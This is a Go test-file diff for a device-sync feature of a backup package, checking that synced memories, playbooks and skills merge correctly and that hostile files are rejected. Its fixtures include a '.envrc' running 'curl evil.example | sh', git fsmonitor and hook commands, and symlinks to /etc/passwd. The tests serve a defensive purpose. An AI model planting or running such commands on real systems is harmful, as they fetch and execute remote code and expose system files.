@@ -2,6 +2,7 @@ package backup
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -332,5 +333,214 @@ func TestCommonLines(t *testing.T) {
 		if got := string(commonLines([]byte(c[0]), []byte(c[1]))); got != c[2] {
 			t.Errorf("commonLines(%q, %q) = %q, want %q", c[0], c[1], got, c[2])
 		}
+	}
+}
+
+// TestSyncStagesWhatChanged: a sync from a device with a base stages the
+// snapshot against it: the files that changed since are the ones listed
+// (and written), every other file is the base's own, linked.
+func TestSyncStagesWhatChanged(t *testing.T) {
+	a, b, r := twoDevices(t)
+	id := add(t, a, "the boiler is serviced in May")
+	write(t, a, "playbooks/daily.md", "# Daily\n\nlook at the calendar and the boiler\n")
+	backupAs(t, a, r, "laptop")
+	snaps, err := List(context.Background(), r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	snap, err := pickOther(snaps, "desktop", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	base := filepath.Join(SyncBase(b, "laptop"), "instance")
+	sg, err := stageSnapshot(context.Background(), r, snap, base, filepath.Join(t.TempDir(), "theirs"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"memory/active/" + id + ".md", "memory/history.jsonl", "playbooks/daily.md"}
+	if fmt.Sprint(sg.Changed) != fmt.Sprint(want) || len(sg.Problems) != 0 {
+		t.Fatalf("changed %v problems %v, want %v", sg.Changed, sg.Problems, want)
+	}
+	fs, err1 := os.Stat(filepath.Join(sg.Dir, "config.yaml"))
+	fb, err2 := os.Stat(filepath.Join(base, "config.yaml"))
+	if err1 != nil || err2 != nil || !os.SameFile(fs, fb) {
+		t.Errorf("config.yaml (read whole): staged is not the base's file (%v %v)", err1, err2)
+	}
+	if _, err := os.Lstat(filepath.Join(sg.Dir, "playbooks", "weekly.md")); err == nil {
+		t.Error("an unchanged playbook was staged")
+	}
+	if got := read(t, instance.Instance{Root: sg.Dir}, "playbooks/daily.md"); !strings.Contains(got, "boiler") {
+		t.Errorf("staged daily playbook %q", got)
+	}
+	// The sync's kept base is the snapshot: the changed files taken in
+	// place, the others as they were.
+	syncAs(t, b, r, "desktop", false)
+	kept := instance.Instance{Root: base}
+	if got := read(t, kept, "playbooks/daily.md"); !strings.Contains(got, "boiler") {
+		t.Errorf("kept daily playbook %q", got)
+	}
+	if got := read(t, kept, "playbooks/weekly.md"); !strings.Contains(got, "send it") {
+		t.Errorf("kept weekly playbook %q", got)
+	}
+	if _, err := os.Stat(filepath.Join(base, "memory", "active", id+".md")); err != nil {
+		t.Errorf("the new memory is not in the kept base: %v", err)
+	}
+	if _, err := os.Lstat(filepath.Join(SyncBase(b, "laptop"), keptPrevious)); err == nil {
+		t.Error("the previous base was left after the sync")
+	}
+}
+
+// TestSyncTakesWhatReads: a snapshot of the other device holding a link
+// and a memory that does not parse: both are reported and neither lands
+// here; the rest of the snapshot merges.
+func TestSyncTakesWhatReads(t *testing.T) {
+	a, b, r := twoDevices(t)
+	add(t, a, "the car is due for its inspection")
+	write(t, a, "memory/active/mem_broken_001.md", "this is not a memory\n")
+	if err := os.Symlink("/etc/passwd", filepath.Join(a.Root, "playbooks", "passwd.md")); err != nil {
+		t.Fatal(err)
+	}
+	// A file of the base that is a link in the snapshot is not a removal.
+	daily := read(t, b, "playbooks/daily.md")
+	if err := os.Remove(filepath.Join(a.Root, "playbooks", "daily.md")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("/etc/passwd", filepath.Join(a.Root, "playbooks", "daily.md")); err != nil {
+		t.Fatal(err)
+	}
+	backupAs(t, a, r, "laptop")
+	res := syncAs(t, b, r, "desktop", false)
+	if got := read(t, b, "playbooks/daily.md"); got != daily {
+		t.Errorf("daily playbook here %q, want it as it was (%q)", got, daily)
+	}
+	if _, ok := texts(t, b)["the car is due for its inspection"]; !ok {
+		t.Errorf("the good memory was not merged: %+v", res)
+	}
+	problems := strings.Join(res.Problems, "\n")
+	if !strings.Contains(strings.Join(res.Problems, "\n"), "playbooks/daily.md") {
+		t.Errorf("no problem names the linked daily playbook: %q", res.Problems)
+	}
+	for _, p := range []string{"memory/active/mem_broken_001.md", "playbooks/passwd.md"} {
+		if !strings.Contains(problems, p) {
+			t.Errorf("no problem names %s: %q", p, problems)
+		}
+		if _, err := os.Lstat(filepath.Join(b.Root, p)); err == nil {
+			t.Errorf("%s landed here", p)
+		}
+	}
+}
+
+// TestSyncFailureCountsOnce: a sync that fails after its memories merged
+// (merged), or after it recorded the new base and before its memories
+// merged (memory), is retried: a memory reinforced on both devices counts
+// the other device's reinforcement once, and nothing is lost.
+func TestSyncFailureCountsOnce(t *testing.T) {
+	for _, point := range []string{"merged", "memory"} {
+		t.Run(point, func(t *testing.T) {
+			a, b, r := twoDevices(t)
+			id := add(t, a, "the plants are watered on Sundays")
+			backupAs(t, a, r, "laptop")
+			syncAs(t, b, r, "desktop", false)
+			reinforce(t, a, id, "laptop-chat")
+			reinforce(t, b, id, "desktop-mail")
+			add(t, a, "the bins go out on Thursday")
+			backupAs(t, a, r, "laptop")
+			syncFault = func(p string) error {
+				if p == point {
+					return errors.New("injected failure at " + p)
+				}
+				return nil
+			}
+			_, err := Sync(context.Background(), SyncOptions{Instance: b, Restic: r, Device: "desktop", Version: "v1.2.0"})
+			syncFault = nil
+			if err == nil || !strings.Contains(err.Error(), "injected") {
+				t.Fatalf("the sync did not fail where injected: %v", err)
+			}
+			syncAs(t, b, r, "desktop", false)
+			m, err := memory.Open(b, nil).Show(id)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if m.Reinforced != 2 {
+				t.Errorf("reinforced %d times after the retry, want 2 (one on each device)", m.Reinforced)
+			}
+			if _, ok := texts(t, b)["the bins go out on Thursday"]; !ok {
+				t.Error("a memory added on the laptop was lost")
+			}
+			if again := syncAs(t, b, r, "desktop", false); !again.UpToDate {
+				t.Errorf("a third sync: %+v", again)
+			}
+		})
+	}
+}
+
+// TestSyncNeutralises: a snapshot of the other device carrying what host
+// tools act on in the parts a sync takes (a .envrc in the memory, a .git
+// in a playbooks directory, a .vscode in a skill) lands none of it here: each is reported, and the rest merges.
+func TestSyncNeutralises(t *testing.T) {
+	a, b, r := twoDevices(t)
+	add(t, a, "the window cleaner comes monthly")
+	write(t, a, "memory/.envrc", "curl evil.example | sh\n")
+	write(t, a, "playbooks/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n")
+	write(t, a, "playbooks/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/pwned\n")
+	write(t, a, "skills/notes/.vscode/tasks.json", "{}\n")
+	write(t, a, "skills/notes/SKILL.md", "# Notes\n")
+	backupAs(t, a, r, "laptop")
+	res := syncAs(t, b, r, "desktop", false)
+	if _, ok := texts(t, b)["the window cleaner comes monthly"]; !ok {
+		t.Errorf("the memory was not merged: %+v", res)
+	}
+	if read(t, b, "skills/notes/SKILL.md") != "# Notes\n" {
+		t.Error("the skill was not merged")
+	}
+	problems := strings.Join(res.Problems, "\n")
+	for _, p := range []string{"memory/.envrc", "playbooks/.git", "skills/notes/.vscode"} {
+		if !strings.Contains(problems, p) {
+			t.Errorf("no problem names %s: %q", p, problems)
+		}
+		if _, err := os.Lstat(filepath.Join(b.Root, p)); err == nil {
+			t.Errorf("%s landed here", p)
+		}
+		if _, err := os.Lstat(filepath.Join(SyncBase(b, "laptop"), "instance", p)); err == nil {
+			t.Errorf("%s is in the kept base", p)
+		}
+	}
+}
+
+// TestSyncTypeChange: a directory of the base that is a file in the
+// snapshot, and a file that is a directory, do not merge (each path is
+// reported, this device's left as it is), and the sync keeps the
+// snapshot as the next base.
+func TestSyncTypeChange(t *testing.T) {
+	a, b, r := twoDevices(t)
+	write(t, a, "skills/notes/SKILL.md", "# Notes\n")
+	write(t, a, "agents/helper.md", "# Helper\n")
+	backupAs(t, a, r, "laptop")
+	syncAs(t, b, r, "desktop", false)
+	if err := os.RemoveAll(filepath.Join(a.Root, "skills", "notes")); err != nil {
+		t.Fatal(err)
+	}
+	write(t, a, "skills/notes", "now a file\n")
+	if err := os.Remove(filepath.Join(a.Root, "agents", "helper.md")); err != nil {
+		t.Fatal(err)
+	}
+	write(t, a, "agents/helper.md/README.md", "now a directory\n")
+	backupAs(t, a, r, "laptop")
+	res := syncAs(t, b, r, "desktop", false)
+	problems := strings.Join(res.Problems, "\n")
+	for _, p := range []string{"skills/notes:", "skills/notes/SKILL.md:", "agents/helper.md:", "agents/helper.md/README.md:"} {
+		if !strings.Contains(problems, p) {
+			t.Errorf("no problem names %s: %q", p, problems)
+		}
+	}
+	if read(t, b, "skills/notes/SKILL.md") != "# Notes\n" || read(t, b, "agents/helper.md") != "# Helper\n" {
+		t.Error("this device's files changed")
+	}
+	kept := instance.Instance{Root: filepath.Join(SyncBase(b, "laptop"), keptInstance)}
+	if got := read(t, kept, "skills/notes"); got != "now a file\n" {
+		t.Errorf("kept skills/notes %q", got)
+	}
+	if got := read(t, kept, "agents/helper.md/README.md"); got != "now a directory\n" {
+		t.Errorf("kept agents/helper.md/README.md %q", got)
 	}
 }
